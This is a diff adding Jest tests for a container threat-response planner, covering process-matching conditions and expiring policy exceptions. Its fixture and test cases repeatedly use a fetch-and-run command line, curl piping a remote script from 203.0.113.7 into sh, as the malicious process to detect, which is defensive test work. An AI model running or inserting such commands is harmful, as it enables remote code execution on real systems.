@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { decodeInput } from '../src/core/envelope.ts';
 import { plan, ruleMatches } from '../src/core/plan.ts';
-import { parsePolicy } from '../src/core/policy.ts';
+import { MAX_COMMAND_LINE, parsePolicy } from '../src/core/policy.ts';
 import { notificationV1 } from './support/fixtures.ts';
 
 const NOW = new Date('2026-11-20T14:05:00Z');
@@ -143,5 +143,199 @@ rules:
 
   it('is pure: same inputs, same plan', () => {
     expect(planFor(notificationV1(), ENFORCE_ALL)).toEqual(planFor(notificationV1(), ENFORCE_ALL));
+  });
+});
+
+// The fixture's child is `/bin/sh -c "curl -s http://203.0.113.7/x.sh | sh"` (sha256 e3b98cb3…), its parent
+// `node /app/server.js` (/usr/local/bin/node).
+const childOf = (n: Record<string, any>) => n.finding.processes.find((p: any) => p.pid === '48213');
+const parentOf = (n: Record<string, any>) => n.finding.processes.find((p: any) => p.pid === '1');
+const ruleFor = (match: string) => `rules: [{name: r, match: ${match}, actions: [label-pod]}]`;
+
+describe('process conditions', () => {
+  const cases: Array<[string, string, boolean]> = [
+    ['child binary path', '{child: {binaryPaths: [/bin/sh]}}', true],
+    ['child binary path glob', '{child: {binaryPaths: ["/bin/*"]}}', true],
+    ['child binary path miss', '{child: {binaryPaths: [/bin/bash]}}', false],
+    ['child binary path: * stays in a segment', '{child: {binaryPaths: ["/*"]}}', false],
+    ['parent binary path', '{parent: {binaryPaths: ["/usr/local/bin/node"]}}', true],
+    ['parent binary path with **', '{parent: {binaryPaths: ["/usr/**"]}}', true],
+    ['parent binary path miss', '{parent: {binaryPaths: ["/usr/bin/java"]}}', false],
+    ['child name', '{child: {names: [sh, bash]}}', true],
+    ['child name miss', '{child: {names: [bash]}}', false],
+    ['parent name', '{parent: {names: ["no?e"]}}', true],
+    ['parent name miss', '{parent: {names: [java]}}', false],
+    ['child args glob over the joined command line', '{child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}}', true],
+    ['child args: * crosses "/" in a command line', '{child: {args: ["/bin/sh -c curl *"]}}', true],
+    ['child args: the whole line must match', '{child: {args: ["/bin/sh -c curl"]}}', false],
+    ['child args: ? and classes match "/" too', '{child: {args: ["?bin[/]sh -c *"]}}', true],
+    ['child argsContain', '{child: {argsContain: ["wget ", "203.0.113.7/x.sh"]}}', true],
+    ['child argsContain miss', '{child: {argsContain: ["wget "]}}', false],
+    ['child argsContain is case-sensitive', '{child: {argsContain: ["CURL"]}}', false],
+    ['parent args', '{parent: {args: ["node /app/server.js"]}}', true],
+    ['child sha256', '{child: {sha256: [e3b98cb3ee2d1e4a0bd5b1a8e5d39c0f3a2c7d8e9f00112233445566778899aa]}}', true],
+    ['child sha256, upper case in the policy', '{child: {sha256: [E3B98CB3EE2D1E4A0BD5B1A8E5D39C0F3A2C7D8E9F00112233445566778899AA]}}', true],
+    ['child sha256 miss', `{child: {sha256: ["${'0'.repeat(64)}"]}}`, false],
+    ['parent sha256', '{parent: {sha256: [9c1185a5c5e9fc54612808977ee8f548b2258d31aa3e7f4c6f1e1d8b7b2d4e11]}}', true],
+    ['child script path when the finding names none', '{child: {scriptPaths: ["/**"]}}', false],
+    ['every process condition at once', '{parent: {names: [node], binaryPaths: ["/usr/local/bin/*"]}, child: {names: [sh], binaryPaths: [/bin/sh], argsContain: [curl]}}', true],
+    ['process and place together, the place fails', '{namespaces: [default], child: {names: [sh]}}', false],
+  ];
+  it.each(cases)('%s', (_name, match, expected) => {
+    expect(planFor(notificationV1(), ruleFor(match)).rule).toBe(expected ? 'r' : null);
+  });
+
+  it('script paths match the script the process runs', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).script = { path: '/opt/jobs/nightly.sh' };
+    expect(planFor(n, ruleFor('{child: {scriptPaths: ["/opt/jobs/*.sh"]}}')).rule).toBe('r');
+    expect(planFor(n, ruleFor('{child: {scriptPaths: ["/opt/other/*.sh"]}}')).rule).toBeNull();
+  });
+
+  it('a parent condition does not hold when the finding names no parent', () => {
+    const n = structuredClone(notificationV1());
+    n.finding.processes = [childOf(n)];
+    delete n.finding.processes[0].parentPid;
+    expect(planFor(n, ruleFor('{parent: {names: ["*"]}}')).rule).toBeNull();
+    expect(planFor(n, ruleFor('{child: {names: [sh]}}')).rule).toBe('r');
+  });
+
+  it('a child with no binary path or sha256 in the finding does not satisfy those conditions', () => {
+    const n = structuredClone(notificationV1());
+    delete childOf(n).binary;
+    expect(planFor(n, ruleFor('{child: {binaryPaths: ["**"]}}')).rule).toBeNull();
+    expect(planFor(n, ruleFor(`{child: {sha256: [${'e'.repeat(64)}]}}`)).rule).toBeNull();
+  });
+
+  // What SCC cut off could be anything ("…; curl x | sh"): a truncated command line never satisfies an args condition.
+  it.each([
+    ['args', '{child: {args: ["*"]}}'],
+    ['args, exact visible line', '{child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}}'],
+    ['argsContain', '{child: {argsContain: [curl]}}'],
+  ])('truncated args never satisfy a positive %s condition', (_name, match) => {
+    const n = structuredClone(notificationV1());
+    expect(planFor(n, ruleFor(match)).rule).toBe('r');
+    childOf(n).argumentsTruncated = true;
+    expect(planFor(n, ruleFor(match)).rule).toBeNull();
+  });
+
+  it('truncated args leave the other process conditions alone', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).argumentsTruncated = true;
+    expect(planFor(n, ruleFor('{child: {binaryPaths: [/bin/sh]}}')).rule).toBe('r');
+  });
+
+  it('a command line longer than the bound is treated as truncated', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).args = ['/bin/sh', '-c', `echo ${'a'.repeat(MAX_COMMAND_LINE)}`];
+    expect(planFor(n, ruleFor('{child: {args: ["*"]}}')).rule).toBeNull();
+    childOf(n).args = ['/bin/sh', '-c', `echo ${'a'.repeat(MAX_COMMAND_LINE - 20)}`];
+    expect(planFor(n, ruleFor('{child: {args: ["*"]}}')).rule).toBe('r');
+  });
+
+  it('matches raw args, though every printed form is redacted', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).args = ['mysql', '-pHunter2Secret', 'shop'];
+    expect(planFor(n, ruleFor('{child: {argsContain: ["-pHunter2Secret"]}}')).rule).toBe('r');
+  });
+
+  it('parent and child are told apart by pid, not by their order in the finding', () => {
+    const n = structuredClone(notificationV1());
+    n.finding.processes.reverse();
+    expect(planFor(n, ruleFor('{parent: {names: [node]}, child: {names: [sh]}}')).rule).toBe('r');
+    expect(parentOf(n).name).toBe('node');
+  });
+});
+
+const NIGHTLY = `
+dryRun: false
+exceptions:
+  - name: curl-health
+    reason: the checkout image's health probe fetches a script (ticket OPS-1)
+    expires: 2026-12-01
+    owner: payments-team
+    match:
+      namespaces: [payments]
+      child: {args: ["/bin/sh -c curl -s http://203.0.113.7/x.sh | sh"]}
+rules:
+  - {name: contain, actions: [label-pod, delete-pod]}
+`;
+
+describe('exceptions', () => {
+  it('an excepted finding is reported with no actions, naming the exception', () => {
+    const p = planFor(notificationV1(), NIGHTLY);
+    expect(p).toMatchObject({
+      decision: 'respond',
+      rule: null,
+      actions: [],
+      exception: { name: 'curl-health', reason: "the checkout image's health probe fetches a script (ticket OPS-1)", expires: '2026-12-01T00:00:00Z', owner: 'payments-team', sinks: ['pubsub', 'slack', 'chat'] },
+    });
+    expect(p.reason).toBe('exception curl-health matched (expires 2026-12-01T00:00:00Z): expected, report only');
+    // Still reported in full: evidence queries and target stay.
+    expect(p.evidence.map((e) => e.kind)).toEqual(['pod-logs', 'cluster-audit-logs', 'node-logs']);
+    expect(Object.keys(p).slice(0, 6)).toEqual(['version', 'decision', 'reason', 'dryRun', 'rule', 'exception']);
+  });
+
+  it('applies until its expiry and not from then on (now injected)', () => {
+    const at = (iso: string) => plan(decodeInput(notificationV1()), parsePolicy(NIGHTLY), new Date(iso));
+    expect(at('2026-11-30T23:59:59.999Z').exception?.name).toBe('curl-health');
+    const expired = at('2026-12-01T00:00:00Z');
+    expect(expired).toMatchObject({ exception: null, rule: 'contain' });
+    expect(expired.actions.map((a) => a.type)).toEqual(['label-pod', 'delete-pod']);
+    // An expiry is never silent.
+    expect(expired.reason).toBe('rule contain matched; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
+  });
+
+  it('says an expired exception also when no rule matches, or the namespace is protected', () => {
+    const later = new Date('2026-12-02T00:00:00Z');
+    const noRule = plan(decodeInput(notificationV1()), parsePolicy(NIGHTLY.replace(/rules:[\s\S]*$/, '')), later);
+    expect(noRule.reason).toBe('no policy rule matches: report only; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
+    const guarded = plan(decodeInput(notificationV1()), parsePolicy(`${NIGHTLY}protectedNamespaces: [payments]\n`), later);
+    expect(guarded.reason).toBe('namespace payments is protected: report only; exception curl-health expired at 2026-12-01T00:00:00Z and no longer applies');
+  });
+
+  it('an RFC 3339 expiry is honoured to the second, offsets included', () => {
+    const yaml = NIGHTLY.replace('expires: 2026-12-01', 'expires: "2026-11-20T15:05:00+01:00"');
+    expect(plan(decodeInput(notificationV1()), parsePolicy(yaml), new Date('2026-11-20T14:04:59Z')).exception?.expires).toBe('2026-11-20T14:05:00Z');
+    expect(plan(decodeInput(notificationV1()), parsePolicy(yaml), new Date('2026-11-20T14:05:00Z')).exception).toBeNull();
+  });
+
+  it('does not apply when one of its conditions fails', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).args = ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh; rm -rf /tmp/x'];
+    expect(planFor(n, NIGHTLY)).toMatchObject({ exception: null, rule: 'contain', reason: 'rule contain matched' });
+  });
+
+  it('does not apply to truncated args', () => {
+    const n = structuredClone(notificationV1());
+    childOf(n).argumentsTruncated = true;
+    expect(planFor(n, NIGHTLY)).toMatchObject({ exception: null, rule: 'contain' });
+  });
+
+  it('is evaluated before the rules and before protected namespaces; the first live one wins', () => {
+    const yaml = `
+protectedNamespaces: [payments]
+exceptions:
+  - {name: old, reason: gone, expires: 2026-01-01, match: {namespaces: [payments]}}
+  - {name: first, reason: a, expires: 2027-01-01, match: {namespaces: [payments]}}
+  - {name: second, reason: b, expires: 2027-01-01, match: {namespaces: ["*"]}}
+rules: [{name: all, actions: [delete-pod]}]
+`;
+    const p = planFor(notificationV1(), yaml);
+    expect(p.exception?.name).toBe('first');
+    expect(p.reason).toMatch(/^exception first matched/);
+  });
+
+  it('excepted findings go only to the sinks the policy allows', () => {
+    const yaml = NIGHTLY + 'exceptionSettings: {sinks: [pubsub]}\n';
+    expect(planFor(notificationV1(), yaml).exception?.sinks).toEqual(['pubsub']);
+    const own = yaml.replace('owner: payments-team', 'owner: payments-team\n    sinks: [slack, pubsub]');
+    expect(planFor(notificationV1(), own).exception?.sinks).toEqual(['pubsub', 'slack']);
+  });
+
+  it('an out-of-scope finding is ignored whatever the exceptions say', () => {
+    const n = structuredClone(notificationV1());
+    n.finding.state = 'INACTIVE';
+    expect(planFor(n, NIGHTLY)).toMatchObject({ decision: 'ignore', exception: null });
   });
 });
